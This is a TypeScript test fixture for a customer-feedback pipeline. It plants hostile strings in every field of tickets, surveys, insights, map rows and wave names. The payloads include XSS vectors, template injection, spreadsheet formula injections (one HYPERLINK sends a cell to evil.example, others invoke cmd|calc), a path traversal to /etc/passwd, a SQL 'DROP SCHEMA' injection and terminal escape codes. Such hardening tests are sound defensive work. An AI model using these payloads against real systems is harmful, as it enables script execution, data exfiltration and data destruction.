// What customers and sources say to attack whoever reads it: in records as the intake takes them, in insights as another
// release might write them, in the gazetteer and in the names of waves.
import type { Insight } from '#schemas/insight.ts';
import { noPlace } from './intake.ts';
import type { InputRecord } from './portal-data.ts';

/** Set by whatever of it runs. */
export const trap = '__hostileTextRan';
const set = `window.${trap}=1`;

/** By name; each is told from the others by its text. */
export const hostile: Readonly<Record<string, string>> = {
  image: `<img src=x onerror="${set}">`,
  script: `"><script>${set}</script>`,
  svg: `'><svg/onload=${set}>`,
  frame: `<iframe srcdoc="<script>parent.${trap}=1</script>">`,
  link: `<a href="javascript:${set}">click</a>`,
  address: `javascript:${set}`,
  template: `{{constructor.constructor('${set}')()}}\${${set}}`,
  closing: `</title></textarea></style></script><script>${set}</script>`,
  entity: '&lt;b&gt;bold&amp;',
  formula: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  plus: '+1+cmd|calc!A0',
  minus: '-2+3+cmd|calc!A0',
  at: '@SUM(1+9)*cmd|calc!A0',
  quotes: `a"b'c,d;e`,
  override: '\u202Egnp.exe\u202C after',
  long: 'w'.repeat(150),
  emoji: '👩‍👩‍👧‍👦🇺🇸 ok',
  path: '../../etc/passwd',
  sql: `'; DROP SCHEMA signpost CASCADE; --`,
  prototype: '__proto__',
};

/** With characters that move a terminal's cursor: labels and words may hold them, names of waves may not. */
const withControls: Readonly<Record<string, string>> = {
  ...hostile,
  escape: '\u001b[31mred\u001b[0m\u0007\u0008',
  lines: 'one\r\n=2+5\n\tthree\u2028four',
  tab: '\t=1+1',
};

const dayMs = 86_400_000;

/** A ticket and a survey answer for each, with the text in every field that takes it. */
export function hostileRecords(now: number): {
  readonly tickets: readonly InputRecord[];
  readonly surveys: readonly InputRecord[];
} {
  const all = Object.entries(withControls);
  const common = (text: string, at: number) => ({
    occurredAt: new Date(now - (1 + at) * dayMs).toISOString(),
    channel: text,
    product: text,
    technology: text,
    attributes: { note: text },
    place: { country: 'US', region: text, city: text, area: text, postcode: text, site: text },
  });
  return {
    tickets: all.map(([name, text], at) => ({
      ...common(text, at),
      id: `hostile-${name}`,
      customerId: `hostile-${name}`,
      name: text,
      description: `No signal at home. ${text} There is no coverage here.`,
      ticketType: text,
      severity: text,
      priority: text,
      status: 'acknowledged',
      statusChangeReason: text,
      notes: [{ author: text, text }],
    })),
    surveys: all.map(([name, text], at) => ({
      ...common(text, at),
      id: `hostile-survey-${name}`,
      scale: 'csat',
      score: 1,
      question: text,
      verbatim: text,
    })),
  };
}

/**
 * Insights whose theme, department, model, source and language are hostile too, which the pipeline's own never are.
 * @param department that receives them beside the hostile one
 */
export function hostileInsights(now: number, department: string): readonly Insight[] {
  return Object.entries(withControls).map(([name, text], at) => {
    const occurredAt = now - (1 + at) * dayMs;
    const id = `hostile-insight-${name}`.padEnd(22, '0').slice(0, 22);
    const words = `No coverage. ${text}`;
    const evidence = [
      { kind: 'words', text: 'No coverage', start: 0, end: 11, weight: 2 },
      { kind: 'field', text: `ticket.severity=${text}`, start: null, end: null, weight: 1 },
      // Beyond the end of the text, and the wrong way round.
      { kind: 'words', text, start: 5000, end: 6000, weight: 1 },
      { kind: 'words', text, start: 9, end: 3, weight: -1 },
    ] as const;
    return {
      id,
      signal: {
        id,
        source: text,
        sourceId: `hostile-insight-${name}`,
        version: null,
        revision: 1,
        kind: 'ticket',
        occurredAt,
        timePrecision: 'instant',
        receivedAt: now,
        customer: `k1:${text}`,
        text: words,
        redactions: {},
        language: text,
        channel: text,
        product: text,
        technology: text,
        place: {
          ...noPlace,
          country: text,
          region: text,
          city: text,
          area: text,
          postcode: text,
          site: text,
        },
        scale: null,
        score: null,
        question: null,
        ticket: {
          type: text,
          severity: text,
          priority: text,
          status: 'acknowledged',
          statusChangeReason: text,
          createdAt: occurredAt,
          resolvedAt: null,
          expectedResolutionAt: null,
        },
        inReplyTo: null,
        threadId: null,
        attributes: { [text]: text },
      },
      departments: [
        { department, relevance: 0.95, evidence: [...evidence], rest: 0 },
        { department: text, relevance: 0.9, evidence: [...evidence], rest: 0 },
      ],
      theme: text,
      themeConfidence: 0.9,
      sentiment: -1,
      urgency: 'high',
      churnRisk: 0.9,
      model: text,
      unsure: null,
      sharedWith: null,
    };
  });
}

/** Lines for the gazetteer, so that the names have subscribers, rates and a place on the map. */
export const hostilePlaces: readonly (readonly string[])[] = Object.values(hostile).map(
  (text, at) => [
    text,
    `H${at}`,
    String(36 + at / 10),
    String(-120 + at / 10),
    '100',
    '',
    text,
    'California',
    'US',
  ],
);

/** Lines for the plan: every hostile name as wave, area and technology. @param day `2026-11-29` */
export const hostileWaves = (day: string): readonly (readonly string[])[] =>
  Object.values(hostile).map((text) => [text, text, text, day, '']);
